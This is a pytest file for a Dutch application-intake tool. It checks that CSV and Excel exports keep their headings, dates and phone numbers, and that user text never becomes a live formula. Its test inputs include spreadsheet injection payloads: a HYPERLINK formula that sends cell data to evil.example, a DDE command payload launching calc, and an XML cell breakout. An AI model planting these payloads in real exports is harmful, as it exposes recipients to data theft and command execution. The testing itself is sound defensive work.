"""The exported table as Excel, LibreOffice and a second library read it."""

import csv
import io
import shutil
import subprocess
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest

from config.call import load_calls
from intake.export import write_csv, write_xlsx
from models.application import Application, ApplicationPerson, ApplicationStatus
from models.value import ApplicationValue
from replies.digest_content import Overview
from tests.models.test_application import a_value

CALLS = load_calls()
HEADINGS = [
    "Kenmerk", "Status", "Ontvangen", "Bijgewerkt", "Organisatie", "Sector", "Functie", "Naam", "E-mailadres",
    "Telefoonnummer", "Plaats", "Provincie", "Regio", "1. Reden van deelname", "2. Ontwikkelvraag", "3. Onderwerpen",
    "Ook aangemeld", "Ontbreekt", "Nakijken",
]  # fmt: skip
RECEIVED = datetime(2026, 3, 1, 23, 30, tzinfo=UTC)
"""Half past midnight of the second of March in the Netherlands."""
FORMULAS = [
    "=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1;\"klik\")", "+31 6 1234", "-2+3", "- bekostiging\n- scholing", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "=cmd|' /C calc'!A0",
]  # fmt: skip
OVERVIEW = Overview(
    call="ontwikkelgroep",
    cells={("po", "noord"): 2, ("vo", "zuid"): 1, ("both", "unknown"): 1},
    complete=3,
    incomplete=1,
    weeks=((date(2026, 2, 16), 0), (date(2026, 2, 23), 4)),
)


def application(number: int = 1, **changed: str) -> Application:
    fields = {
        "organisation": "OBS De Klimop", "sector": "po,sbo", "role": "directeur", "name": "Jan de Vries",
        "email": "jan@klimop.example", "phone": "+31612345678", "place": "'s-Hertogenbosch", "province": "noord-brabant",
        "region": "zuid", "answer:1": "Omdat “wij” willen leren; graag.", "answer:2": "Hoe geven we\nsamen les?",
        "answer:3": "Geld, tijd.",
    }  # fmt: skip
    made = Application(
        reference=f"OG-2026-{number:04}",
        call="ontwikkelgroep",
        status=ApplicationStatus.OPEN,
        created_at=RECEIVED,
        updated_at=RECEIVED,
        needs_review=False,
    )
    made.values = [a_value(name, text, state="current") for name, text in (fields | changed).items() if text]
    return made


def a_person(name: str, **given: str) -> ApplicationPerson:
    return ApplicationPerson(**({"name": name, "role": "", "email": "", "phone": ""} | given))


def as_csv(*rows: Application, delimiter: str = ";") -> list[list[str]]:
    out = io.StringIO(newline="")
    assert write_csv(rows, CALLS, out, delimiter=delimiter) == len(rows)
    return list(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=delimiter))


def cells(*rows: Application) -> list[dict[str, str]]:
    heading, *lines = as_csv(*rows)
    return [dict(zip(heading, line, strict=True)) for line in lines]


@pytest.fixture
def workbook(tmp_path: Path):
    def write(*rows: Application) -> Path:
        path = tmp_path / "aanmeldingen.xlsx"
        assert write_xlsx(rows, CALLS, path, [OVERVIEW]) == len(rows)
        return path

    return write


@pytest.fixture
def converted(tmp_path: Path):
    """A file as LibreOffice reads it: its first sheet as CSV, every cell as it is shown."""
    if shutil.which("soffice") is None:
        pytest.skip("LibreOffice is not installed (Debian: libreoffice-calc-nogui)")

    def convert(path: Path, *options: str) -> list[list[str]]:
        out = tmp_path / "converted"
        command = [
            "soffice", "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(out), *options, str(path),
        ]  # fmt: skip
        subprocess.run(command, check=True, capture_output=True, timeout=300)
        with (out / f"{path.stem}.csv").open(encoding="utf-8", newline="") as lines:
            return list(csv.reader(lines))

    return convert


def test_the_columns_are_dutch_and_the_same_in_both():
    assert as_csv()[0] == HEADINGS


def test_a_row_tells_everything_as_people_write_it():
    row = application()
    row.people = [a_person("Els Bakker", role="ib'er"), a_person("Weg", added_by="x")]
    row.people[1].removed_at = RECEIVED
    row.needs_review = True
    [told] = cells(row)
    assert told == {
        "Kenmerk": "OG-2026-0001", "Status": "aangemeld", "Ontvangen": "2026-03-02 00:30", "Bijgewerkt": "2026-03-02 00:30",
        "Organisatie": "OBS De Klimop", "Sector": "po, sbo", "Functie": "directeur", "Naam": "Jan de Vries",
        "E-mailadres": "jan@klimop.example", "Telefoonnummer": "06 12345678", "Plaats": "'s-Hertogenbosch",
        "Provincie": "noord-brabant", "Regio": "zuid", "1. Reden van deelname": "Omdat “wij” willen leren; graag.",
        "2. Ontwikkelvraag": "Hoe geven we\nsamen les?", "3. Onderwerpen": "Geld, tijd.",
        "Ook aangemeld": "Els Bakker, ib'er", "Ontbreekt": "", "Nakijken": "ja",
    }  # fmt: skip


def test_what_is_missing_is_named_in_dutch():
    [told] = cells(application(1, phone="", **{"answer:3": ""}))
    assert told["Ontbreekt"] == "telefoonnummer, onderwerpen"


def test_a_comma_may_stand_between_the_cells():
    assert as_csv(application(), delimiter=",")[1][HEADINGS.index("3. Onderwerpen")] == "Geld, tijd."


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_becomes_a_formula_in_any_cell_of_csv(text):
    row = application(**dict.fromkeys(("organisation", "role", "name", "email", "phone", "answer:1"), text))
    row.people = [a_person(text)]
    for told in as_csv(row)[1]:
        assert not told.lstrip().startswith(("=", "+", "-", "@", "＝")), told
        assert not told.startswith(("\t", "\r", "\n")), told
    assert cells(row)[0]["Organisatie"] == f"'{text}"


def test_a_foreign_number_is_no_formula_and_a_dutch_one_is_dialled():
    numbers = [told["Telefoonnummer"] for told in cells(application(phone="+4930123456"), application())]
    assert numbers == ["'+49 30 123456", "06 12345678"]


def test_a_second_library_reads_the_workbook(workbook):
    book = openpyxl.load_workbook(workbook(application(1), application(2)))
    sheet = book["Aanmeldingen"]
    assert [cell.value for cell in sheet[1]] == HEADINGS
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:S3"
    received = sheet.cell(2, HEADINGS.index("Ontvangen") + 1)
    assert received.is_date
    assert received.value == datetime(2026, 3, 2, 0, 30)  # noqa: DTZ001 - a sheet knows no zones
    answer = sheet.cell(2, HEADINGS.index("2. Ontwikkelvraag") + 1)
    assert answer.value == "Hoe geven we\nsamen les?"
    assert (answer.alignment.wrap_text, answer.alignment.vertical) == (True, "top")
    # Columns of one width that stand side by side are one entry.
    spans = [(one.min, one.max, one.width) for one in sheet.column_dimensions.values()]
    widths = {
        cell.value: next(width for first, last, width in spans if first <= cell.column <= last) for cell in sheet[1]
    }
    assert widths["2. Ontwikkelvraag"] >= 50
    assert 14 <= widths["Kenmerk"] <= 20
    assert all(10 <= width <= 70 for width in widths.values())


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_becomes_a_formula_in_the_workbook(workbook, text):
    names = [*CALLS["ontwikkelgroep"].required, "place"]
    book = openpyxl.load_workbook(workbook(application(**dict.fromkeys(names, text))))
    sheet = book["Aanmeldingen"]
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
    kept = sheet.cell(2, HEADINGS.index("Organisatie") + 1)
    # The apostrophe that Excel keeps outside the text: it stays text when somebody edits it.
    assert kept.quotePrefix
    assert not sheet.cell(2, 1).quotePrefix
    assert kept.value.replace("_x000D_", "\r") == text
    assert not any(cell.hyperlink for line in sheet.iter_rows() for cell in line)


def test_the_overview_is_a_sheet_of_its_own_that_adds_up(workbook):
    book = openpyxl.load_workbook(workbook(application()))
    assert book.sheetnames == ["Aanmeldingen", "Overzicht"]
    lines = [[cell for cell in line if cell is not None] for line in book["Overzicht"].values]
    assert lines[0] == ["Alle aanmeldingen die meedoen, ook die niet in deze export staan."]
    assert lines[2:12] == [
        ["Ontwikkelgroep", "Noord", "Zuid", "onbekend", "samen"],
        ["PO", 2, 0, 0, 2],
        ["VO", 0, 1, 0, 1],
        ["PO en VO", 0, 0, 1, 1],
        ["onbekend", 0, 0, 0, 0],
        ["samen", 2, 1, 1, 4],
        [],
        ["compleet", 3],
        ["niet compleet", 1],
        [],
    ]
    assert lines[12:] == [
        ["week van", "aanmeldingen"],
        [datetime(2026, 2, 16), 0],  # noqa: DTZ001
        [datetime(2026, 2, 23), 4],  # noqa: DTZ001
    ]


def test_libreoffice_reads_the_workbook_and_calculates_nothing(workbook, converted):
    rows = [application(number, organisation=text) for number, text in enumerate(FORMULAS, start=1)]
    heading, *lines = converted(workbook(*rows))
    assert heading == HEADINGS
    assert len(lines) == len(FORMULAS)
    shown = [line[HEADINGS.index("Organisatie")] for line in lines]
    assert [" ".join(text.split()) for text in shown] == [" ".join(text.split()) for text in FORMULAS]
    assert lines[0][HEADINGS.index("Ontvangen")] == "02-03-2026 00:30"
    assert lines[0][HEADINGS.index("2. Ontwikkelvraag")] == "Hoe geven we\nsamen les?"
    assert lines[0][HEADINGS.index("Plaats")] == "'s-Hertogenbosch"


def test_libreoffice_reads_the_csv_with_its_semicolons_and_accents(tmp_path, converted):
    path = tmp_path / "aanmeldingen.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as out:
        write_csv([application(name="Sjoûkje Één")], CALLS, out)
    assert path.read_bytes().startswith(b"\xef\xbb\xbfKenmerk;Status;")
    heading, line = converted(path, "--infilter=Text - txt - csv (StarCalc):59,34,76")
    assert heading == HEADINGS
    assert line[HEADINGS.index("Naam")] == "Sjoûkje Één"
    assert line[HEADINGS.index("2. Ontwikkelvraag")] == "Hoe geven we\nsamen les?"


@pytest.mark.parametrize("text", ["a\x01b\x0b\x1fc", "\ufffe\uffff", "x" * 40_000, "🏫 _x0041_", "</t></is><f>1+1</f>"])
def test_no_value_breaks_the_workbook(workbook, text):
    book = openpyxl.load_workbook(workbook(application(organisation=text, role="directeur")))
    kept = book["Aanmeldingen"].cell(2, HEADINGS.index("Organisatie") + 1)
    assert kept.data_type in {"s", "inlineStr"}
    assert len(kept.value) <= 32_767
    assert book["Aanmeldingen"].cell(2, HEADINGS.index("Functie") + 1).value == "directeur"


def test_what_does_not_fit_in_a_cell_says_so(workbook):
    book = openpyxl.load_workbook(workbook(application(1, **{"answer:1": "x" * 40_000})))
    assert book["Aanmeldingen"].cell(2, HEADINGS.index("1. Reden van deelname") + 1).value == "x" * 32_766 + "…"


def test_a_file_that_can_not_be_written_is_an_error_of_the_system(tmp_path):
    with pytest.raises(OSError, match="No such file"):
        write_xlsx([application()], CALLS, tmp_path / "nowhere" / "x.xlsx", [])


def test_rows_are_read_as_they_are_written(tmp_path):
    """Nothing waits for the last row: a generator is enough."""

    def rows() -> Iterator[Application]:
        for number in range(1, 4):
            yield application(number)

    assert write_xlsx(rows(), CALLS, tmp_path / "x.xlsx", []) == 3


def test_a_value_of_the_list_is_never_cut_in_csv():
    long = "woord " * 20_000
    row = application()
    row.values.append(ApplicationValue(field="place", value=long, state="current", confidence=1, set_by="x"))
    assert cells(row)[0]["Plaats"] == long
